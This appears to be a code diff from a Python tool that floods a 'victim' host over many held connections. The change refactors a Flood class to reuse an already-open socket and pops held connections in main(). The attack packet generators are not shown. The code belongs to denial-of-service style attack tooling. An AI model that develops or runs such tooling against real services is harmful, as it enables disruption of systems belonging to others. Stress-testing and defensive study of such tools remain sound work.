@@ -132,12 +132,14 @@ def connected(address: str, port: int, client: str) -> socket.socket:
 
 
 class Flood:
-    """Sends ``packets`` over connections that ``dial`` opens, and counts."""
+    """Sends ``packets`` over ``sock`` and the connections that ``dial`` opens, and counts."""
 
-    def __init__(self, dial: Callable[[], socket.socket], packets: Iterator[bytes]) -> None:
+    def __init__(
+        self, sock: socket.socket, dial: Callable[[], socket.socket], packets: Iterator[bytes]
+    ) -> None:
+        self._sock = sock
         self._dial = dial
         self._packets = packets
-        self._sock = dial()
         self._counts = {"sent": 0, "ended": 0}
 
     def run(self, per_second: float) -> NoReturn:
@@ -201,8 +203,9 @@ def main() -> NoReturn:
     packets: Iterator[bytes] = iter(())
     if options.attack in ATTACKS:
         packets = ATTACKS[options.attack](Victim(options.venue, options.host))
-    flood = Flood(partial(dial, options.client), packets)
+    again = partial(dial, options.client)
     print(json.dumps({"connections": len(held)}), flush=True)
+    flood = Flood(held.pop() if held else again(), again, packets)
     threading.Thread(target=flood.answer, name="answers", daemon=True).start()
     flood.run(options.per_second)
 
